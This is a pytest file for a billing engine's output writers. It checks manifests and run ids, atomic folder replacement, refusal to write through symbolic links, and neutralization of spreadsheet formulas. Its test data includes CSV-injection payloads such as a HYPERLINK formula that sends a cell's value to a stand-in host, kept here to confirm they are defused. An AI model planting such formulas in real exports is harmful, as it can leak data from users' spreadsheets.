"""Outputs that cannot mislead: whole folders with a manifest and a run id, no store made
up by a reading command, no write through a symbolic link, no formula in a written cell.

End to end through the ``billing`` command on the small CCM bundle of tests/test_cli.py,
plus the writers of ``billing_engine.io.safe_files`` on hand-made frames.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
import sqlalchemy as sa
import yaml

from billing_engine.calendar import Month
from billing_engine.errors import ConfigError, StoreMissing
from billing_engine.io import safe_files
from billing_engine.io.ingest import read_bundle
from billing_engine.services.evaluation import evaluate
from billing_engine.store import Store
from billing_engine.synth.practice import generate_practice, write_bundle_csv
from reports.outputs import write_outputs
from tests.scenario_io import write_scenario_bundle
from tests.test_cli import ENTRIES, RULE_CASES, invoke, read_csv, write_bundle

ROOT = Path(__file__).resolve().parents[1]
CSV_OUTPUTS = ("claim_lines.csv", "gaps.csv", "revenue_by_payer.csv", "capitation.csv")
HOSTILE_IDS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
)
HOSTILE_PAYER = '=HYPERLINK("http://x.example","Medicare")'
STAMP: dict[str, Any] = {
    "run_id": "0b6c7c5e-3d1f-4c2a-9a57-6f4f0d1e2a3b",
    "created_at": dt.datetime(2026, 12, 6, 12, 0, tzinfo=dt.UTC),
}


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return write_bundle(tmp_path / "bundle", ENTRIES)


def evaluate_into(bundle: Path, out: Path, *more: str | Path) -> str:
    """Run ``billing evaluate`` for March 2025 into `out`; returns its output."""
    result = invoke("evaluate", bundle, "--month", "2025-03", "--out", out, *more)
    assert result.exit_code == 0, result.output
    return result.output


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def hidden_siblings(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))


def manifest(out: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    return document


# --------------------------------------------------------------------------- manifest, run id


def test_the_manifest_lists_every_file_with_its_rows_and_sha256_and_the_run(
    bundle: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    evaluate_into(bundle, out)
    document = manifest(out)
    assert set(document["files"]) == set(CSV_OUTPUTS)
    for name, entry in document["files"].items():
        data = (out / name).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest(), name
        assert entry["bytes"] == len(data)
        assert entry["rows"] == len(read_csv(out / name)[1]), name
    uuid.UUID(document["run_id"])
    assert document["month"] == "2025-03"
    assert document["as_of"] == "2025-03-31"
    assert document["source"] == str(bundle)
    assert document["store"] is None
    assert document["rule_set_version"]
    created = dt.datetime.fromisoformat(document["created_at"])
    assert created.tzinfo is not None
    assert abs(dt.datetime.now(dt.UTC) - created) < dt.timedelta(minutes=5)


def test_every_csv_output_ends_with_the_run_id_of_its_manifest(
    bundle: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    printed = evaluate_into(bundle, out)
    run_id = manifest(out)["run_id"]
    assert run_id in printed
    for name in CSV_OUTPUTS:
        header, rows = read_csv(out / name)
        assert header[-1] == "run_id", name
        assert {row["run_id"] for row in rows} <= {run_id}, name
    assert read_csv(out / "claim_lines.csv")[1], "the bundle bills a line"


def test_the_json_document_carries_the_run_id_at_the_top_and_its_manifest_counts_tables(
    bundle: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    evaluate_into(bundle, out, "--format", "json")
    document = json.loads((out / "evaluation.json").read_text(encoding="utf-8"))
    entry = manifest(out)["files"]["evaluation.json"]
    assert document["run_id"] == manifest(out)["run_id"]
    assert entry["rows"] == {
        name: len(document[name])
        for name in ("claim_lines", "gaps", "revenue_by_payer", "capitation")
    }
    assert entry["sha256"] == hashlib.sha256((out / "evaluation.json").read_bytes()).hexdigest()


def test_a_run_from_the_store_is_recorded_under_the_run_id_its_outputs_carry(
    bundle: Path, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'store.db'}"
    assert invoke("import", bundle, "--db", url).exit_code == 0
    out = tmp_path / "out"
    result = invoke("evaluate", "--month", "2025-03", "--out", out, "--db", url)
    assert result.exit_code == 0, result.output
    with Store.open(url) as store:
        runs = store.runs()
    assert [r["run_id"] for r in runs] == [manifest(out)["run_id"]]
    assert manifest(out)["store"] == url
    assert {row["run_id"] for row in read_csv(out / "claim_lines.csv")[1]} == {runs[0]["run_id"]}


def test_a_run_whose_outputs_fail_to_be_written_is_not_recorded(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"sqlite:///{tmp_path / 'store.db'}"
    assert invoke("import", bundle, "--db", url).exit_code == 0

    def disk_full(path: Path, data: bytes) -> None:
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr(safe_files, "write_new_file", disk_full)
    result = invoke("evaluate", "--month", "2025-03", "--out", tmp_path / "out", "--db", url)
    assert result.exit_code != 0
    with Store.open(url) as store:
        assert store.runs() == []
    assert not (tmp_path / "out").exists()


def test_record_run_keeps_a_given_run_id_and_refuses_one_that_is_not_a_uuid(
    store_url: str,
) -> None:
    run_id = str(uuid.uuid4())
    with Store.open(store_url) as store:
        assert store.record_run("2025-03", dt.date(2025, 3, 31), "r", {}, 0, 0, "s", run_id) == (
            run_id
        )
        with pytest.raises(ValueError, match="UUID"):
            store.record_run("2025-03", dt.date(2025, 3, 31), "r", {}, 0, 0, "s", "run-1")
        assert [r["run_id"] for r in store.runs()] == [run_id]


def test_evaluate_stays_pure_and_the_writer_stamps_the_run_id(bundle: Path, tmp_path: Path) -> None:
    result = evaluate(read_bundle(bundle), Month.parse("2025-03"))
    assert "run_id" not in result.claim_lines.columns
    write_outputs(result, tmp_path / "out", **STAMP)
    assert read_csv(tmp_path / "out" / "claim_lines.csv")[1][0]["run_id"] == STAMP["run_id"]
    assert manifest(tmp_path / "out")["created_at"] == "2026-12-06T12:00:00+00:00"


# --------------------------------------------------------------------------- whole or nothing


def test_a_writer_failing_midway_leaves_the_previous_outputs_whole_and_no_partial_folder(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    evaluate_into(bundle, out)
    before = snapshot(out)
    original = safe_files.write_new_file
    written: list[str] = []

    def fail_on_the_third(path: Path, data: bytes) -> None:
        if len(written) == 2:
            raise OSError(5, "Input/output error", str(path))
        original(path, data)
        written.append(Path(path).name)

    monkeypatch.setattr(safe_files, "write_new_file", fail_on_the_third)
    result = invoke("evaluate", bundle, "--month", "2025-04", "--out", out)
    assert result.exit_code != 0
    assert written == ["claim_lines.csv", "gaps.csv"]  # the new run got halfway
    assert snapshot(out) == before
    assert hidden_siblings(out) == []


def test_the_fallback_renames_replace_the_folder_when_no_atomic_exchange_is_available(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    evaluate_into(bundle, out)
    first = manifest(out)["run_id"]
    monkeypatch.setattr(safe_files, "exchange", lambda a, b: False)
    evaluate_into(bundle, out, "--as-of", "2025-04-02")
    assert manifest(out)["run_id"] != first
    assert manifest(out)["as_of"] == "2025-04-02"
    assert hidden_siblings(out) == []


def test_the_linux_exchange_swaps_two_folders_atomically(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "x").write_text("a")
    (b / "x").write_text("b")
    if not safe_files.exchange(a, b):
        pytest.skip("renameat2(RENAME_EXCHANGE) is not available here")
    assert ((a / "x").read_text(), (b / "x").read_text()) == ("b", "a")


CHILD = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from billing_engine.io import safe_files

    ready, point, *args = sys.argv[1:]

    def stall() -> None:
        Path(ready).write_text("ready")
        time.sleep(120)

    original = safe_files.write_new_file
    if point == "halfway_through_the_first_file":
        def write(path, data):
            with open(path, "xb") as handle:
                handle.write(data[: len(data) // 2])
                handle.flush()
            stall()
        safe_files.write_new_file = write
    elif point == "after_the_second_file":
        written = []
        def write(path, data):
            original(path, data)
            written.append(path)
            if len(written) == 2:
                stall()
        safe_files.write_new_file = write
    elif point == "before_the_swap":
        safe_files.exchange = lambda a, b: stall()
    from cli.main import billing
    billing(args, prog_name="billing")
    """
)


@pytest.mark.parametrize(
    "point", ["halfway_through_the_first_file", "after_the_second_file", "before_the_swap"]
)
def test_an_evaluate_killed_with_sigkill_leaves_the_previous_outputs_whole(
    bundle: Path, tmp_path: Path, point: str
) -> None:
    out = tmp_path / "out"
    evaluate_into(bundle, out)
    before = snapshot(out)
    ready = tmp_path / "ready"
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(ready), point, "evaluate", str(bundle),
         "--month", "2025-04", "--out", str(out)],
        cwd=ROOT,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while not ready.exists():
            assert child.poll() is None, f"the child ended early ({child.returncode})"
            assert time.monotonic() < deadline, "the child never reached the kill point"
            time.sleep(0.05)
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.wait(timeout=60)
    assert child.returncode == -signal.SIGKILL
    assert snapshot(out) == before  # the previous outputs, whole, at their place
    assert manifest(out)["month"] == "2025-03"
    stale = hidden_siblings(out)
    assert len(stale) == 1 and stale[0].startswith(f".out.partial-{child.pid}-"), stale
    evaluate_into(bundle, out, "--month", "2025-04")  # the next run clears what was left
    assert manifest(out)["month"] == "2025-04"
    assert hidden_siblings(out) == []


def test_concurrent_publishers_each_succeed_and_leave_one_whole_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"

    def publish(n: int) -> None:
        data = f"run {n}\n".encode() * 1000
        files = [safe_files.OutputFile(name, data, 1000) for name in ("a.csv", "b.csv")]
        safe_files.publish_folder(out, files, {"run": n}, replaceable=())

    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(publish, range(8)))  # re-raises any failure
    document = manifest(out)
    for name, entry in document["files"].items():
        data = (out / name).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert data.startswith(f"run {document['run']}\n".encode())
    assert hidden_siblings(out) == []


def test_a_folder_holding_other_files_is_refused_before_anything_is_written(
    bundle: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    result = invoke("evaluate", bundle, "--month", "2025-03", "--out", out)
    assert result.exit_code == 1
    assert "notes.txt" in result.stderr and str(out) in result.stderr
    assert snapshot(out) == {"notes.txt": b"mine"}
    assert hidden_siblings(out) == []


def test_a_partial_folder_of_a_running_process_is_kept_and_of_a_dead_one_removed(
    tmp_path: Path,
) -> None:
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    mine = tmp_path / f".out.partial-{os.getpid()}-abc"
    gone = tmp_path / f".out.partial-{dead.pid}-abc"
    other = tmp_path / f".other.partial-{dead.pid}-abc"
    for folder in (mine, gone, other):
        folder.mkdir()
    assert safe_files.remove_stale_partials(tmp_path, "out") == [gone]
    assert mine.exists() and other.exists() and not gone.exists()


# --------------------------------------------------------------------------- no store made up


@pytest.mark.parametrize(
    "command",
    [
        ["evaluate", "--month", "2025-03", "--out", "OUT"],
        ["explain", "--month", "2025-03", "--patient", "P1"],
        ["revenue", "--from", "2025-01", "--to", "2025-03"],
    ],
    ids=["evaluate", "explain", "revenue"],
)
def test_a_db_whose_sqlite_file_does_not_exist_is_refused_and_not_created(
    tmp_path: Path, command: list[str]
) -> None:
    db = tmp_path / "typo.db"
    args = [str(tmp_path / "out") if a == "OUT" else a for a in command]
    result = invoke(*args, "--db", f"sqlite:///{db}")
    assert result.exit_code == 2, result.output
    assert "does not exist" in result.stderr and str(db) in result.stderr
    assert "billing import" in result.stderr
    assert not db.exists()
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", ["evaluate", "explain", "revenue"])
def test_the_default_store_that_does_not_exist_is_refused_and_not_created(
    tmp_path: Path, command: str
) -> None:
    default = Path(os.environ["XDG_DATA_HOME"]) / "billing-engine" / "billing.db"
    args = {
        "evaluate": ["--month", "2025-03", "--out", str(tmp_path / "out")],
        "explain": ["--month", "2025-03", "--patient", "P1"],
        "revenue": ["--from", "2025-03", "--to", "2025-03"],
    }[command]
    result = invoke(command, *args)
    assert result.exit_code == 2, result.output
    assert "does not exist" in result.stderr
    assert not default.exists()


@pytest.mark.parametrize("command", ["evaluate", "explain", "revenue"])
def test_a_store_without_patients_is_refused_instead_of_reporting_zero_lines(
    tmp_path: Path, command: str
) -> None:
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    Store.open(url).close()  # a store that exists, with nothing imported
    args = {
        "evaluate": ["--month", "2025-03", "--out", str(tmp_path / "out")],
        "explain": ["--month", "2025-03", "--patient", "P1"],
        "revenue": ["--from", "2025-03", "--to", "2025-03"],
    }[command]
    result = invoke(command, *args, "--db", url)
    assert result.exit_code == 2, result.output
    assert "holds no patients" in result.stderr
    assert "0 claim line" not in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.postgres
def test_a_postgresql_database_without_a_store_is_refused_and_left_without_tables(
    pg_schema_url: str, tmp_path: Path
) -> None:
    result = invoke("evaluate", "--month", "2025-03", "--out", tmp_path / "out", "--db",
                    pg_schema_url)  # fmt: skip
    assert result.exit_code == 2, result.output
    assert "holds no store" in result.stderr
    engine = sa.create_engine(pg_schema_url)
    try:
        with engine.connect() as connection:
            assert sa.inspect(connection).get_table_names() == []
    finally:
        engine.dispose()


def test_store_open_without_create_refuses_a_missing_file_and_opens_an_existing_store(
    tmp_path: Path,
) -> None:
    url = f"sqlite:///{tmp_path / 's.db'}"
    with pytest.raises(StoreMissing, match="does not exist"):
        Store.open(url, create=False)
    assert not (tmp_path / "s.db").exists()
    Store.open(url).close()
    with Store.open(url, create=False) as store:
        assert store.runs() == []


def test_evaluating_a_bundle_with_a_db_that_does_not_exist_prices_with_shipped_fees_only(
    bundle: Path, tmp_path: Path
) -> None:
    db = tmp_path / "none.db"
    evaluate_into(bundle, tmp_path / "out", "--db", f"sqlite:///{db}")
    assert not db.exists()


# --------------------------------------------------------------------------- symbolic links


def test_a_symlink_named_claim_lines_csv_leaves_its_victim_untouched(
    bundle: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "claim_lines.csv").symlink_to(victim)
    evaluate_into(bundle, out)
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not (out / "claim_lines.csv").is_symlink()
    assert read_csv(out / "claim_lines.csv")[1]


def test_an_output_folder_that_is_a_symlink_is_refused_and_its_target_untouched(
    bundle: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "gaps.csv").write_text("theirs", encoding="utf-8")
    link = tmp_path / "out"
    link.symlink_to(elsewhere, target_is_directory=True)
    result = invoke("evaluate", bundle, "--month", "2025-03", "--out", link)
    assert result.exit_code == 1
    assert "symbolic link" in result.stderr
    assert snapshot(elsewhere) == {"gaps.csv": b"theirs"}
    assert link.is_symlink()


def test_write_new_file_never_writes_through_a_link_nor_into_an_existing_file(
    tmp_path: Path,
) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    (tmp_path / "link").symlink_to(victim)
    for name in ("link", "victim"):
        with pytest.raises(FileExistsError):
            safe_files.write_new_file(tmp_path / name, b"overwritten")
    assert victim.read_bytes() == b"precious"


def test_the_bundle_writer_replaces_a_symlink_named_like_a_table_without_following_it(
    tmp_path: Path,
) -> None:
    victim = tmp_path / "victim.csv"
    victim.write_text("precious", encoding="utf-8")
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "patients.csv").symlink_to(victim)
    (folder / "payer_codes.csv").symlink_to(victim)  # an empty table's name: only unlinked
    write_bundle_csv(generate_practice(20), folder)
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not (folder / "patients.csv").is_symlink()
    assert not (folder / "payer_codes.csv").exists()


# --------------------------------------------------------------------------- synth and demo


def test_synth_refuses_a_non_empty_folder_it_did_not_make_naming_it_and_force(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "patients.csv").write_text("my real patients", encoding="utf-8")
    result = invoke("synth", "--patients", "5", "--out", folder)
    assert result.exit_code == 1
    assert str(folder) in result.stderr and "--force" in result.stderr
    assert (folder / "patients.csv").read_text(encoding="utf-8") == "my real patients"
    forced = invoke("synth", "--patients", "5", "--out", folder, "--force")
    assert forced.exit_code == 0, forced.output
    assert (folder / ".billing-synth").is_file()


def test_synth_writes_again_into_a_folder_it_made_and_into_an_empty_one(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    for _ in range(2):
        result = invoke("synth", "--patients", "5", "--out", empty)
        assert result.exit_code == 0, result.output
    assert (empty / ".billing-synth").is_file()
    assert (empty / "patients.csv").is_file()


def test_demo_refuses_a_bundle_folder_it_did_not_make_unless_forced(tmp_path: Path) -> None:
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "encounters.csv").write_text("keep me", encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'demo.db'}"
    args = ["demo", "--db", url, "--patients", "20", "--bundle", folder,
            "--out", tmp_path / "demo-out"]  # fmt: skip
    result = invoke(*args)
    assert result.exit_code == 1
    assert str(folder) in result.stderr and "--force" in result.stderr
    assert (folder / "encounters.csv").read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "demo.db").exists()
    forced = invoke(*args, "--force")
    assert forced.exit_code == 0, forced.output
    assert (folder / ".billing-demo").is_file()
    again = invoke(*args)  # its own folder now
    assert again.exit_code == 0, again.output
    with Store.open(url) as store:
        # the demo's evaluation, then its close's own evaluation (billing close start)
        recorded = [
            r["run_id"] for r in store.runs() if not r["source"].startswith("billing close")
        ]
    assert recorded[-1] == manifest(tmp_path / "demo-out")["run_id"]


# --------------------------------------------------------------------------- formula injection


def hostile_bundle(folder: Path) -> Path:
    """The CCM base patient once per hostile id, each billing 99490 in March 2025, with
    a payer whose name is a formula."""
    doc = yaml.safe_load(RULE_CASES.read_text(encoding="utf-8"))
    base = doc["base"]
    tables: dict[str, list[dict[str, Any]]] = {
        "practitioners": copy.deepcopy(base["practitioners"]),
        "payers": [{**base["payers"][0], "name": HOSTILE_PAYER}],
    }
    per_patient = ("patients", "coverages", "conditions", "consents", "care_plans", "encounters")
    for name in per_patient:
        tables[name] = []
    for n, patient in enumerate(HOSTILE_IDS):
        for name in per_patient:
            for row in base[name]:
                copied = {**row, "patient_id": patient}
                for key in ("consent_id", "care_plan_id", "encounter_id"):
                    if key in copied:
                        copied[key] = f"{copied[key]}_{n}"
                tables[name].append(copied)
        tables["encounters"].append(
            {**doc["defaults"]["encounters"], "patient_id": patient,
             "encounter_id": f"E1_{n}", "date": "2025-03-04", "minutes": 25}
        )  # fmt: skip
    write_scenario_bundle(tables, folder)
    return folder


def test_ids_and_payer_names_that_begin_like_formulas_are_written_with_a_leading_apostrophe(
    tmp_path: Path,
) -> None:
    out = tmp_path / "out"
    evaluate_into(hostile_bundle(tmp_path / "hostile"), out)
    _, lines = read_csv(out / "claim_lines.csv")
    assert sorted(r["patient_id"] for r in lines) == sorted(f"'{p}" for p in HOSTILE_IDS)
    assert {r["allowed_amount"] for r in lines} == {"60.49"}  # money stays a number
    _, gaps = read_csv(out / "gaps.csv")
    assert gaps and all(r["patient_id"].startswith("'") for r in gaps)
    _, revenue = read_csv(out / "revenue_by_payer.csv")
    # every payer row neutralized; the last row is the grand total of all payers
    assert {r["payer_name"] for r in revenue} == {f"'{HOSTILE_PAYER}", "all payers"}
    raw = (out / "claim_lines.csv").read_text(encoding="utf-8")
    for line in raw.splitlines()[1:]:
        assert line[0] in "'\"", line  # no row begins with a formula character


def test_revenue_out_neutralizes_payer_names_and_writes_a_manifest_and_run_id(
    tmp_path: Path,
) -> None:
    out = tmp_path / "revenue"
    result = invoke("revenue", hostile_bundle(tmp_path / "hostile"), "--from", "2025-03",
                    "--to", "2025-03", "--out", out)  # fmt: skip
    assert result.exit_code == 0, result.output
    document = manifest(out)
    assert document["command"] == "billing revenue"
    assert (document["from"], document["to"]) == ("2025-03", "2025-03")
    assert set(document["files"]) == {
        "revenue_by_payer_range.csv", "revenue_by_code.csv", "revenue_by_month.csv",
        "capitation_by_month.csv",
    }  # fmt: skip
    for name in document["files"]:
        header, rows = read_csv(out / name)
        assert header[-1] == "run_id"
        assert {r["run_id"] for r in rows} <= {document["run_id"]}
    _, by_payer = read_csv(out / "revenue_by_payer_range.csv")
    assert [r["payer_name"] for r in by_payer] == [f"'{HOSTILE_PAYER}", "all payers"]
    (out / "extra.txt").write_text("mine", encoding="utf-8")
    again = invoke("revenue", tmp_path / "hostile", "--from", "2025-03", "--to", "2025-03",
                   "--out", out)  # fmt: skip
    assert again.exit_code == 1 and "extra.txt" in again.stderr


def test_every_formula_trigger_is_neutralized_in_text_and_numbers_stay_numbers() -> None:
    texts = ["=1+1", "+1", "-2", "@SUM(A1)", "\tP5", "\rP6", "\x00P7", "P8", "a=b", "", None]
    frame = pl.DataFrame(
        {
            "patient_id": texts,
            "amount": [Decimal("-12.50")] * len(texts),
            "units": [-1] * len(texts),
            "share": [-0.25] * len(texts),
        },
        schema={"patient_id": pl.String, "amount": pl.Decimal(18, 2), "units": pl.Int64,
                "share": pl.Float64},
    )  # fmt: skip
    rows = list(csv.reader(safe_files.csv_bytes(frame).decode("utf-8").splitlines(True)))
    assert [r[0] for r in rows[1:]] == [
        "'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tP5", "'\rP6", "'\x00P7", "P8", "a=b", "", "",
    ]  # fmt: skip
    assert {(r[1], r[2], r[3]) for r in rows[1:]} == {("-12.50", "-1", "-0.25")}


def test_categorical_and_enum_text_is_neutralized_too() -> None:
    frame = pl.DataFrame({"c": ["=X", "ok"], "e": ["-1", "ok"]}).with_columns(
        pl.col("c").cast(pl.Categorical), pl.col("e").cast(pl.Enum(["-1", "ok"]))
    )
    assert safe_files.neutralize_frame(frame).rows() == [("'=X", "'-1"), ("ok", "ok")]


def test_workbook_cells_written_with_set_cell_stay_text_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    values: list[object] = [*HOSTILE_IDS, "\tP5", "\rP6", "P8", -12.5, Decimal("-3.25"), None]
    for row, value in enumerate(values, start=1):
        safe_files.set_cell(sheet.cell(row=row, column=1), value)
    expected = [f"'{v}" for v in HOSTILE_IDS] + ["'\tP5", "'\rP6", "P8"]
    assert [sheet.cell(row=row, column=1).value for row in range(1, 8)] == expected
    path = tmp_path / "book.xlsx"
    book.save(path)
    read = openpyxl.load_workbook(path).active
    assert read is not None
    cells = [read.cell(row=row, column=1) for row in range(1, len(values) + 1)]
    texts = [c.value for c in cells[:7]]
    assert texts == [v.replace("\r", "\n") for v in expected]  # XML reads CR back as LF
    assert all(c.data_type == "s" for c in cells[:7])  # none became a formula
    assert [c.value for c in cells[7:]] == [-12.5, -3.25, None]
    assert cells[7].data_type == "n"


def test_the_neutralizer_is_one_function_used_by_every_csv_writer() -> None:
    """No module writes a CSV file but through ``safe_files`` (tests excepted)."""
    offenders = []
    for folder in ("billing_engine", "cli", "reports", "code_rules", "bench"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path.name == "safe_files.py":
                continue
            text = path.read_text(encoding="utf-8")
            for needle in (".write_csv(", ".to_csv(", "csv.writer(", "csv.DictWriter("):
                if needle in text:
                    offenders.append(f"{path.relative_to(ROOT)}: {needle}")
    assert offenders == []


def test_claim_folder_refuses_a_file_and_a_symlink(tmp_path: Path) -> None:
    a_file = tmp_path / "file"
    a_file.write_text("x")
    with pytest.raises(ConfigError, match="not a folder"):
        safe_files.claim_folder(a_file, ".m", "billing synth")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "nowhere", target_is_directory=True)
    with pytest.raises(ConfigError, match="symbolic link"):
        safe_files.claim_folder(link, ".m", "billing synth", force=True)
